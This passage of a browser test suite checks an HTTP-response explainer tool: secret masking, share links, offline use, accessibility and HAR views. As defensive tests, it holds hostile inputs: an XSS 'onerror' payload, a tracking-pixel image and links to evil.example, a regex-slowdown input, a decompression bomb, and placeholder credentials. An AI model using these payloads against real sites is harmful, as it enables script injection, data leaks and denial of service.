  assert.deepEqual(result.outcome, ["blocked", "blocked", "blocked", "blocked"]);
  assert.ok(result.violations.includes("connect-src") && result.violations.includes("img-src"), result.violations.join());
  assert.deepEqual(wire.outside.slice(before), []);
  // playwright reports the blocked attempts as requests; they are this test's own, refused by CSP
  // before reaching the network (the proxy saw none), so they are not counted against the page
  assert.ok(seen.outside.slice(attempted).every((u) => u.includes("evil.example")));
  seen.outside.splice(attempted);
  await close();
});

test("the README tells hosts to send frame-ancestors (a meta CSP cannot)", () => {
  const readme = readFileSync(path.join(root, "README.md"), "utf8");
  assert.match(readme, /Content-Security-Policy: frame-ancestors 'none'/);
});

/** Secrets of every kind the issue lists, in one response. */
const SECRETS = {
  auth: "Bearer eyJhbGciOiJIUzI1NiJ9.c2VjcmV0.signature",
  cookie: "s3cr3t-cookie",
  setCookie: "alb-secret-value",
  proxyAuth: "dXNlcjpwYXNzd29yZA==",
  apiKey: "sk_live_abcdef123456",
  password: "hunter2pw",
  shopify: "shpat_0123456789abcdef",
  session: "sess-tok-987654",
  accessToken: "at-json-5551212",
  sessionId: "sid-json-424242",
  oauthAccess: "ya29.oauth-access",
  clientSecret: "cs-oauth-777",
};
const secretParts = Object.values(SECRETS).map((v) => v.replace(/^Bearer /, ""));

function secretResponse() {
  const body = JSON.stringify({ error: "invalid_grant", accessToken: SECRETS.accessToken, sessionId: SECRETS.sessionId, access_token: SECRETS.oauthAccess, client_secret: SECRETS.clientSecret, detail: "token expired" });
  return [
    "HTTP/1.1 401 Unauthorized",
    "Server: nginx",
    `Authorization: ${SECRETS.auth}`,
    `Cookie: session=${SECRETS.cookie}; theme=dark`,
    `Set-Cookie: AWSALB=${SECRETS.setCookie}; Expires=Sat, 01 Jan 2028 00:00:00 GMT; Path=/`,
    `Proxy-Authorization: Basic ${SECRETS.proxyAuth}`,
    `X-Shopify-Access-Token: ${SECRETS.shopify}`,
    `X-Session-Token: ${SECRETS.session}`,
    `Location: https://admin:${SECRETS.password}@api.example/v1?api_key=${SECRETS.apiKey}&page=2`,
    "Content-Type: application/json",
    `Content-Length: ${Buffer.byteLength(body)}`,
    "",
    body,
  ].join("\r\n");
}

test("secrets are masked in the raw view and the body until asked for", async () => {
  const { page, errors, close } = await openPage();
  await drop(page, secretResponse());
  for (const where of ["#raw", "#body", "#headers", "main"]) {
    const shown = await page.textContent(where);
    for (const part of secretParts) assert.ok(!shown.includes(part), `${part} is shown in ${where}`);
  }
  await page.click("#secrets-toggle");
  assert.ok((await page.textContent("#raw")).includes(SECRETS.shopify), "Show secrets reveals them");
  assert.ok((await page.textContent("#body")).includes(SECRETS.clientSecret), "… in the body too");
  await page.click("#secrets-toggle");
  assert.ok(!(await page.textContent("#raw")).includes(SECRETS.shopify));
  assert.ok(!(await page.textContent("#body")).includes(SECRETS.clientSecret));
  assert.deepEqual(errors, []);
  await close();
});

test("share links, Copy JSON and Markdown carry no secret; the link round-trips", async () => {
  const { page, errors, close } = await openPage({ clipboard: true });
  const text = secretResponse();
  const original = await drop(page, text);
  await page.click("#share");
  await page.waitForSelector("#share-box:not([hidden])");
  const link = await page.inputValue("#share-url");
  assert.match(await page.textContent("#share-note"), /\d+ secrets masked/);
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), link);

  // the link: this page, the response only in the fragment, compressed, no secret in it
  const url = new URL(link);
  assert.equal(url.origin + url.pathname, base);
  assert.equal(url.search, "");
  const payload = new URLSearchParams(url.hash.slice(1)).get("r");
  assert.match(payload, /^[A-Za-z0-9_-]+$/);
  const shared = inflateRawSync(Buffer.from(payload, "base64url")).toString("utf8");
  for (const part of secretParts) {
    assert.ok(!shared.includes(part), `${part} leaked into the share link`);
  }
  assert.equal(Buffer.byteLength(shared), Buffer.byteLength(text), "masking keeps the byte length");
  assert.match(shared, /^Authorization: Bearer \*+\r$/m);
  assert.match(shared, /^Cookie: session=\*+; theme=\*+\r$/m);
  assert.match(shared, /^Set-Cookie: AWSALB=\*+; Expires=Sat, 01 Jan 2028/m);
  assert.match(shared, /^X-Shopify-Access-Token: \*+\r$/m);
  assert.match(shared, /admin:\*+@api\.example\/v1\?api_key=\*+&page=2/);
  assert.match(shared, /"error":"invalid_grant"/);

  // Copy JSON
  await page.click("#copy-json");
  await page.waitForFunction(() => document.querySelector("#toast").textContent === "Report JSON copied");
  const json = await page.evaluate(() => navigator.clipboard.readText());
  assert.equal(JSON.parse(json).status.code, 401);
  for (const part of secretParts) assert.ok(!json.includes(part), `${part} leaked into the JSON`);

  // Markdown
  await page.click("#copy-md");
  await page.waitForFunction(() => document.querySelector("#toast").textContent === "Report copied as Markdown");
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(md, /^### HTTP\/1\.1 401 Unauthorized — /);
  assert.match(md, /```http\nHTTP\/1\.1 401 Unauthorized\nServer: nginx\nAuthorization: Bearer \*+\n/);
  for (const part of secretParts) assert.ok(!md.includes(part), `${part} leaked into the Markdown`);

  // open it: same verdict, the masked response in the paste area, a banner saying so
  const other = await openPage({ url: link });
  const report = await other.page.waitForFunction(() => document.body.dataset.state === "report" && window.__resplain.view).then(() => other.page.evaluate(() => window.__resplain.view.r));
  assert.equal(report.origin.generator, original.origin.generator);
  assert.equal(report.status.code, 401);
  assert.equal(await other.page.inputValue("#paste"), shared.replace(/\r\n?/g, "\n"));
  assert.equal(report.input_length, Buffer.byteLength(text));
  assert.ok(await other.page.isVisible("#shared-banner"));
  // the fragment never reached the server
  assert.doesNotMatch(serverLog, /#r=|r=[A-Za-z0-9_-]{20}/);
  assert.deepEqual(other.errors, []);
  await other.close();
  assert.deepEqual(errors, []);
  await close();
});

test("a HAR file's share link masks its headers, cookies, query and body tokens", async () => {
  const har = JSON.parse(input("chromium-devtools-har-failing-fetches.har"));
  const entry = har.log.entries[0];
  entry.request.headers.push({ name: "X-Shopify-Access-Token", value: SECRETS.shopify }, { name: "Authorization", value: SECRETS.auth });
  entry.request.cookies = [{ name: "sid", value: SECRETS.cookie }];
  entry.request.queryString = [{ name: "api_key", value: SECRETS.apiKey }];
  entry.request.url += `?api_key=${SECRETS.apiKey}`;
  entry.response.content.text = JSON.stringify({ accessToken: SECRETS.accessToken, sessionId: SECRETS.sessionId, client_secret: SECRETS.clientSecret });
  const file = JSON.stringify(har, null, 2);
  const { page, errors, close } = await openPage({ clipboard: true });
  await drop(page, file, "secrets.har");
  await page.click("#share");
  await page.waitForSelector("#share-box:not([hidden])");
  const link = await page.inputValue("#share-url");
  const shared = inflateRawSync(Buffer.from(new URLSearchParams(new URL(link).hash.slice(1)).get("r"), "base64url")).toString("utf8");
  assert.equal(shared.length, file.length);
  for (const part of [SECRETS.shopify, SECRETS.cookie, SECRETS.apiKey, SECRETS.accessToken, SECRETS.sessionId, SECRETS.clientSecret, "eyJhbGciOiJIUzI1NiJ9"]) {
    assert.ok(!shared.includes(part), `${part} leaked into the HAR's share link`);
  }
  assert.doesNotThrow(() => JSON.parse(shared), "the masked HAR is still JSON");
  assert.deepEqual(errors, []);
  await close();
});

test("share links are bounded: a crafted short link renders within a second, a bomb is refused", async () => {
  // 355 characters that inflate to a quarter megabyte of what the old secret regex choked on
  const crafted = deflateRawSync(Buffer.from("HTTP/1.1 502 Bad Gateway\r\nLocation: http://x:" + "a.".repeat(150_000) + "\r\n\r\n"), { level: 9 }).toString("base64url");
  assert.ok(crafted.length < 600, `${crafted.length} characters`);
  const { page, errors, close } = await openPage();
  const started = Date.now();
  await page.goto(`${base}#r=${crafted}`);
  await page.waitForFunction(() => document.body.dataset.state === "report" && window.__resplain.view?.r.status.code === 502);
  const elapsed = Date.now() - started;
  assert.ok(elapsed < 3000, `the crafted link took ${elapsed} ms`); // page load included; the read itself is milliseconds
  const task = await page.evaluate(() => performance.getEntriesByType("longtask").reduce((m, t) => Math.max(m, t.duration), 0));
  assert.ok(task < 1000, `a task ran ${task} ms`);
  assert.deepEqual(errors, []);
  await close();
  // a link that inflates past the bound is refused while inflating
  const bomb = deflateRawSync(Buffer.alloc(17 * 1024 * 1024, 0x61), { level: 9 }).toString("base64url");
  const t0 = Date.now();
  const other = await openPage({ url: `${base}#r=${bomb}` });
  await other.page.waitForFunction(() => /Not opened: this share link inflates to more than/.test(document.querySelector("#toast").textContent));
  assert.ok(Date.now() - t0 < 3000);
  assert.equal(await other.page.evaluate(() => document.querySelector("#paste").value), "");
  assert.deepEqual(other.errors, []);
  await other.close();
});

test("Markdown keeps what the response says inert: no image, link, mention or HTML", async () => {
  const { page, errors, close } = await openPage({ clipboard: true });
  const evil = "![pixel](https://evil.example/p.png) [click](https://evil.example/x) @admin <img src=x onerror=alert(1)> www.evil.example";
  await paste(page, `HTTP/1.1 500 Internal Server Error\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ message: evil })}`);
  await page.click("#copy-md");
  await page.waitForFunction(() => document.querySelector("#toast").textContent === "Report copied as Markdown");
  const md = await page.evaluate(() => navigator.clipboard.readText());
  assert.ok(md.includes("**The body says:** `"), md);
  for (const line of md.split("\n")) {
    const live = liveText(line);
    for (const bad of ["](", "<img", "@admin", "https://", "www."]) assert.ok(!live.includes(bad), `${bad} is live in: ${line}`);
  }
  assert.deepEqual(errors, []);
  await close();
});

test("keyboard only: skip to the verdict, reach everything, read why evidence counts", async () => {
  const { page, close } = await openPage();
  const reached = [];
  for (let i = 0; i < 14; i++) {
    await page.keyboard.press("Tab");
    reached.push(await page.evaluate(() => {
      const el = document.activeElement;
      return el.id || el.dataset.example || el.className || el.tagName;
    }));
  }
  assert.equal(reached[0], "skip");
  assert.ok(reached.includes("paste"), reached.join());
  assert.ok(reached.includes("theme"), reached.join());
  assert.ok(reached.includes("nginx-502-default"), reached.join());
  await page.focus('button[data-example="nginx-502-default"]');
  const since = await seq(page);
  await page.keyboard.press("Enter");
  await waitReport(page, since);
  // the skip link now leads to the verdict
  assert.equal(await page.textContent("#skip"), "Skip to the verdict");
  await page.focus("#skip");
  await page.keyboard.press("Enter");
  assert.equal(await page.evaluate(() => location.hash), "#verdict");
  // evidence items and highlights are focusable; Enter opens "why", Escape closes it and returns focus
  await page.focus("#raw mark[data-first]");
  await page.keyboard.press("Enter");
  await page.waitForSelector("#why:not([hidden])");
  assert.match(await page.textContent("#why"), /generated this response|was on the path/);
  await page.waitForFunction(() => /Source:/.test(document.querySelector("#why").textContent));
  await shot(page, "why-popover", false);
  await page.keyboard.press("Escape");
  assert.ok(await page.isHidden("#why"));
  assert.equal(await page.evaluate(() => document.activeElement.tagName), "MARK");
  // every control has an accessible name, which holds its visible text
  const unnamed = await page.$$eval("button, textarea, input:not([hidden]), select, [role=button]", (els) =>
    els.filter((e) => !(e.getAttribute("aria-label") || e.textContent.trim() || e.closest("label") || (e.id && document.querySelector(`label[for="${e.id}"]`)))).map((e) => e.outerHTML.slice(0, 80)));
  assert.deepEqual(unnamed, []);
  const mismatched = await page.$$eval("button[aria-label]", (els) =>
    els.filter((e) => e.textContent.trim() && !e.getAttribute("aria-label").toLowerCase().includes(e.textContent.trim().toLowerCase())).map((e) => e.outerHTML.slice(0, 100)));
  assert.deepEqual(mismatched, []);
  // a report is announced
  assert.match(await page.textContent("#announce"), /^Report ready: HTTP\/1\.1 502 Bad Gateway/);
  await close();
});

test("search in the raw text, and long header values collapsed", async () => {
  const { page, errors, close } = await openPage();
  const long = "x".repeat(1500);
  await drop(page, fixture("nginx-502-default").replace("Server: nginx\r\n", `Server: nginx\r\nX-Long: ${long}\r\n`));
  await page.fill("#raw-find", "center");
  await page.waitForFunction(() => /of \d+/.test(document.querySelector("#raw-found").textContent));
  assert.equal(await page.textContent("#raw-found"), "1 of 4");
  assert.equal(await page.locator("#raw mark.hit").count(), 4);
  await page.click("#raw-next");
  assert.equal(await page.textContent("#raw-found"), "2 of 4");
  assert.equal(await page.getAttribute("#raw mark.hit-current", "data-hit"), "1");
  await page.fill("#raw-find", "nothing-like-this");
  await page.waitForFunction(() => document.querySelector("#raw-found").textContent === "no match");
  // the long value: cut, with a button for all of it
  const cell = page.locator("#headers tr", { hasText: "X-Long" });
  assert.ok((await cell.textContent()).length < 700);
  await cell.locator("button").click();
  assert.ok((await cell.textContent()).includes(long));
  assert.deepEqual(errors, []);
  await close();
});

test("a 10 MB paste is read off the main thread without freezing the page", async () => {
  const { page, errors, close } = await openPage({ clipboard: true });
  assert.equal(await page.evaluate(() => document.body.dataset.engine), "worker");
  const body = "<html><body>" + "<p>lorem ipsum dolor sit amet, é ü 日本</p>\r\n".repeat(240000) + "<hr><center>nginx</center></body></html>";
  const text = "HTTP/1.1 502 Bad Gateway\r\nServer: nginx\r\nContent-Type: text/html\r\n\r\n" + body;
  await page.evaluate((t) => navigator.clipboard.writeText(t), text);
  await page.focus("#paste");
  await page.evaluate(() => {
    window.__tasks = [];
    new PerformanceObserver((list) => window.__tasks.push(...list.getEntries().map((e) => e.duration))).observe({ type: "longtask" });
    window.__started = performance.now();
  });
  const since = await seq(page);
  await page.keyboard.press("Control+V");
  const report = await waitReport(page, since);
  const result = await page.evaluate(async () => {
    const elapsed = performance.now() - window.__started;
    await new Promise((r) => setTimeout(r, 200));
    return { elapsed, task: Math.max(0, ...window.__tasks) };
  });
  assert.equal(report.input_length, Buffer.byteLength(text), "the whole paste was read, CRLFs included");
  assert.ok(text.length > 10_000_000);
  assert.equal(report.origin.generator, "nginx");
  assert.ok(result.elapsed < 15000, `took ${result.elapsed} ms`);
  // a sanity bound only: scripts/page-bench.mjs measures the main thread (target: 100 ms)
  assert.ok(result.task < 1000, `a task ran for ${Math.round(result.task)} ms`);
  assert.ok(await page.isVisible("#raw-more"), "a huge paste is drawn in part, the rest as it scrolls");
  assert.equal(await page.getAttribute("#paste", "readonly"), "", "the editor shows the head of a big paste, read-only");
  console.log(`# 10 MB paste: report in ${Math.round(result.elapsed)} ms, longest task ${Math.round(result.task)} ms`);
  assert.deepEqual(errors, []);
  await close();
});

test("works offline after the first visit", async () => {
  const port = await freePort();
  const url = `http://127.0.0.1:${port}/`;
  const own = startServer(port);
  await waitForServer(url);
  const { page, errors, close } = await openPage({ url });
  await page.evaluate(async () => { await navigator.serviceWorker.ready; });
  await page.reload();
  await page.waitForSelector("body[data-ready=true]");
  assert.ok(await page.evaluate(() => navigator.serviceWorker.controller !== null), "the service worker controls the page");
  own.kill();
  await new Promise((r) => own.once("exit", r));
  await assert.rejects(fetch(url), "the server is gone");
  await page.reload();
  await page.waitForSelector("body[data-ready=true]");
  await example(page, "aws-alb-503-no-targets");
  assert.match(await page.textContent("#generator"), /AWS Application Load Balancer/);
  // the evidence's sources come from the engine (inline, or from pkg/citations.json, cached)
  await page.click("#evidence .ev-item >> nth=0");
  await page.waitForFunction(() => /Source:/.test(document.querySelector("#why").textContent));
  assert.deepEqual(errors, []);
  await close();
});

test("HAR and tool outputs are read when the engine knows them", { skip: !existsSync(path.join(root, "tests/inputs")) }, async () => {
  const dir = path.join(root, "tests/inputs");
  const files = readdirSync(dir).filter((f) => /\.(har|txt|http)$/.test(f));
  const { page, errors, close } = await openPage();
  for (const f of files) {
    await drop(page, readFileSync(path.join(dir, f)), f);
    assert.ok(await page.isVisible("#verdict"), f);
    const entries = await page.evaluate(() => window.__resplain.entries.length);
    if (entries) {
      assert.ok(await page.isVisible("#entries-card"), f);
      assert.equal(await page.locator("#entries tbody button.entry").count(), entries, f);
    }
  }
  assert.deepEqual(errors, []);
  await close();
});

test("HAR tools: entry x of y, filter, sort, timings, the request, focus kept", async () => {
  const { page, errors, close } = await openPage();
  const file = input("chromium-devtools-har-failing-fetches.har");
  const har = JSON.parse(file);
  await drop(page, file, "failing.har");
  const entries = await page.evaluate(() => window.__resplain.entries);
  const failing = entries.filter((e) => e.failing).length;
  assert.match(await page.textContent("#entry-where"), new RegExp(`^Entry 1 of ${entries.length} · ${failing} failing`));
  // the list: method, status, host, path, size, time
  assert.equal(await page.locator("#entries tbody tr").count(), entries.length);
  assert.deepEqual((await page.$$eval("#entries-head th", (ths) => ths.map((t) => t.textContent.trim()))), ["Method", "Status", "Host", "Path", "Size", "Time"]);
  const first = har.log.entries[entries[0].index];
  assert.match(await page.textContent("#entries tbody tr >> nth=0"), new RegExp(String(Math.round(first.time))));
  // timings of the selected entry
  assert.ok(await page.isVisible("#timings"));
  assert.match(await page.textContent("#timings"), /wait/);
  // the request pane (request headers from the HAR)
  assert.ok(await page.isVisible("#request-card"));
  assert.match(await page.textContent("#request-headers"), /User-Agent/i);
  // filter by status and text
  await page.selectOption("#entries-status", "5xx");
  const fives = entries.filter((e) => e.status >= 500 && e.status < 600).length;
  assert.equal(await page.locator("#entries tbody tr").count(), fives);
  await page.selectOption("#entries-status", "all");
  await page.fill("#entries-filter", "favicon");
  assert.equal(await page.locator("#entries tbody tr").count(), entries.filter((e) => e.url.includes("favicon")).length);
  await page.fill("#entries-filter", "");
  // sort by time, longest first
  await page.click("#entries-head button[data-key=time]");
  await page.click("#entries-head button[data-key=time]");
  assert.equal(await page.getAttribute("#entries-head th:has(button[data-key=time])", "aria-sort"), "descending");
  const times = await page.$$eval("#entries tbody tr", (rows) => rows.map((r) => Number(r.dataset.position)));
  const byTime = [...entries].sort((a, b) => (b.time ?? -1) - (a.time ?? -1)).map((e) => e.position);
  assert.deepEqual(times, byTime);
  // choose another entry with the keyboard: its report, and the focus stays on it
  const target = entries.findIndex((e, i) => i > 0 && e.inspected);
  await page.focus(`#entries tr[data-position="${target}"] button.entry`);
  await page.keyboard.press("Enter");
  await page.waitForFunction((p) => window.__resplain.position === p, target);
  assert.equal(await page.evaluate(() => document.activeElement.closest("tr")?.dataset.position), String(target));
  assert.match(await page.textContent("#entry-where"), new RegExp(`^Entry ${target + 1} of ${entries.length}`));
  assert.equal(await page.getAttribute(`#entries tr[data-position="${target}"] button.entry`, "aria-current"), "true");
  await shot(page, "har-tools");
  assert.deepEqual(errors, []);
  await close();
});

test("the request pane shows what curl -v and HTTPie sent", async () => {
  const { page, errors, close } = await openPage();
  for (const [file, header] of [["curl-v-nginx-502.txt", "User-Agent"], ["httpie-v-nginx-502.txt", "User-Agent"]]) {
    const report = await drop(page, readFileSync(path.join(root, "tests/inputs", file)), file);
    assert.ok(report.request, file);
    assert.ok(await page.isVisible("#request-card"), file);
    assert.match(await page.textContent("#request-line"), new RegExp(`^${report.request.method} `), file);
    assert.equal(await page.locator("#request-headers tbody tr").count(), report.request.headers.length, file);
    assert.match(await page.textContent("#request-headers"), new RegExp(header, "i"), file);
  }
  await paste(page, fixture("nginx-502-default"));
  assert.ok(await page.isHidden("#request-card"), "no request in a raw response");
  assert.deepEqual(errors, []);
  await close();
});

test("a HAR of many entries: the first 200 are inspected, the rest listed, and the page says so", { skip: !existsSync(path.join(root, "tests/inputs")) }, async () => {
  const har = JSON.parse(input("chromium-devtools-har-failing-fetches.har"));
  const real = har.log.entries;
  har.log.entries = Array.from({ length: 230 }, (_, i) => real[i % real.length]);
  const { page, errors, close } = await openPage();
  const report = await drop(page, JSON.stringify(har), "many.har");
  assert.ok(report.diagnostics.some((d) => d.code === "har-entries-not-inspected"));
  // a hundred rows at first, the rest behind a button
  assert.equal(await page.locator("#entries tbody button.entry").count(), 100);
  await page.click("#entries tbody button:has-text('Show all 230 entries')");
  assert.equal(await page.locator("#entries tbody button.entry").count(), 230);
  assert.equal(await page.locator("#entries tbody button.entry:disabled").count(), 30);
  assert.ok(await page.isVisible("#entries-note"));
  assert.match(await page.textContent("#entries-note"), /200 of 230 entries inspected/);
  assert.deepEqual(errors, []);
  await close();
});

test("a paste dropped while the wasm module still loads waits for it", async () => {
  const { page, errors, close } = await openPage({ ready: false });
  await page.evaluate((t) => {
    const dt = new DataTransfer();
    dt.items.add(new File([t], "x.http"));
    document.querySelector("#paste").dispatchEvent(new DragEvent("drop", { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, fixture("nginx-502-default"));
  await page.waitForFunction(() => document.body.dataset.state === "report" && window.__resplain.view);
  assert.equal(await page.evaluate(() => window.__resplain.view.r.origin.generator), "nginx");
  assert.doesNotMatch(await page.textContent("#toast"), /Could not read/);
  assert.deepEqual(errors, []);
  await close();
});

test("axe-core finds no serious or critical accessibility violation, light and dark", async () => {
  const axe = readFileSync(path.join(root, "node_modules/axe-core/axe.min.js"), "utf8");
  const run = async (page) => {
    // transient states (a toast fading in, a hover) are not what is checked
    await page.evaluate(() => document.querySelector("#toast").classList.remove("show"));
    await page.mouse.move(0, 0);
    await page.waitForTimeout(300);
    return violations(page);
  };
  const violations = (page) => page.evaluate(async () => {
    const result = await window.axe.run(document, { resultTypes: ["violations"] });
    return result.violations.filter((v) => v.impact === "serious" || v.impact === "critical")
      .map((v) => `${v.id} (${v.impact}): ${v.nodes.slice(0, 3).map((n) => n.target.join(" ")).join(", ")}`);
  });
  for (const colorScheme of ["light", "dark"]) {
    // axe itself writes HTML, which the page's Trusted Types refuse: this context lets it
    const { page, close } = await openPage({ colorScheme, bypassCSP: true });
    await page.evaluate(axe);
    assert.deepEqual(await run(page), [], `empty page, ${colorScheme}`);
    await example(page, "heroku-503-h12-behind-cloudflare");
    assert.deepEqual(await run(page), [], `a report, ${colorScheme}`);
    // a probable verdict: its outlined badge on the path
    await paste(page, "HTTP/1.1 502 Bad Gateway\r\nServer: zorg\r\nContent-Type: text/plain\r\nContent-Length: 11\r\n\r\nBad Gateway");
    assert.deepEqual(await run(page), [], `a probable verdict, ${colorScheme}`);
    await drop(page, input("chromium-devtools-har-failing-fetches.har"), "x.har");
    await page.click("#json-card summary");
    assert.deepEqual(await run(page), [], `a HAR file, ${colorScheme}`);
    await close();
  }
});

test("no request left 127.0.0.1 during the whole session", () => {
  assert.ok(wire.total > 20, `the proxy saw ${wire.total} requests`);
  assert.equal(wire.local, wire.total - wire.outside.length);
  assert.deepEqual(wire.outside, []);
  assert.deepEqual(seen.outside, []);
  console.log(`# requests through the proxy: ${wire.total}, all to 127.0.0.1`);
});
